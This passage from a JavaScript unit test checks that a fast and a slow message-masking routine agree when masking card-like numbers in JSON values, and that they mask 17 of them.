    let masked = 0;
    for (const v of values.filter((x) => /^-?[1-9]/.test(x))) {
      const text = `{"v":${v}}`;
      const a = JSON.stringify(fast.maskMessage(msg(text), scope).value);
      const b = JSON.stringify(slow.maskMessage(msg(text), scope).value);
      expect([v, a]).toEqual([v, b]);
      if (a.includes('[masked:')) masked++;
    }
    // The 4 cards as they are, negative, as `….0` and as `…e0`; and 4111111111111111 once more.
    expect(masked).toBe(17);
  });
});
